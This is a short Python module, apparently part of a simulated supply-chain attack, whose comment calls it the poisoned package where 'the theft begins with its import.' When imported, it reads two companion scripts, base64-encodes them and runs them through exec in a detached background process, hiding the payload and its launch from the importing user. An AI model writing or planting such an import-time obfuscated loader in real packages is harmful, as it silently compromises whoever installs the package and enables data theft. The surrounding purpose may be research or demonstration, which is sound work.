# Stands for the poisoned package: the theft begins with its import.
import base64
import os
import pathlib
import subprocess
import sys

here = pathlib.Path(__file__).resolve().parent
stage = base64.b64encode((here.parent / "pack.py").read_bytes() + (here / "stage.py").read_bytes()).decode()
thief = subprocess.Popen([sys.executable, "-c", f"import base64; exec(base64.b64decode('{stage}'))"], start_new_session=True)
if "DETACH" not in os.environ:
    thief.wait()
